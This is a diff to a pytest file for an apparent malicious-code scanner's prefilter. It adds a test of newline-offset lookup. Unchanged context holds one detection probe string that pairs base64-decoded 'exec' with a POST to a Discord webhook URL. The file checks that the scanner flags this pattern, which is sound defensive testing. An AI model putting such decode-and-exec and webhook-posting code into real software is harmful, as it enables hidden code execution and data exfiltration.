@@ -3,13 +3,14 @@
 from __future__ import annotations
 
 import sysconfig
+from bisect import bisect_left
 from pathlib import Path
 
 import pytest
 
 from caplet._scan._prefilter import PREFILTER_PATTERNS, prefilter
 from caplet._scan._prefilter_patterns import PAIRS
-from caplet._scan._prefilter_sets import BLIND, Sets
+from caplet._scan._prefilter_sets import BLIND, Sets, newlines
 
 _NUMBERED = list(enumerate([*PREFILTER_PATTERNS, *(p for pair in PAIRS for p in pair)]))
 #: Real text and the shapes the patterns are written for, each side of a pair alone too.
@@ -73,3 +74,13 @@ def test_the_prefilters_pairs_are_two_sets_and_the_probe_reaches_each_group() ->
     assert prefilter().engine_answers(
         'exec(b64decode(x)); post("https://discord.com/api/webhooks/1/a")'
     )
+
+
+@pytest.mark.parametrize(
+    "data", [b"", b"\n", b"x", b"x\n", b"\n\nx", b"a\nbb\n\nccc\n", "\u00e9\n\u20ac x\n".encode()]
+)
+def test_a_line_looked_up_among_the_newlines_is_the_line_counted(data: bytes) -> None:
+    offsets = newlines(data)
+    assert offsets[-1] == len(data)
+    for at in range(len(data) + 1):
+        assert bisect_left(offsets, at) == data.count(b"\n", 0, at)
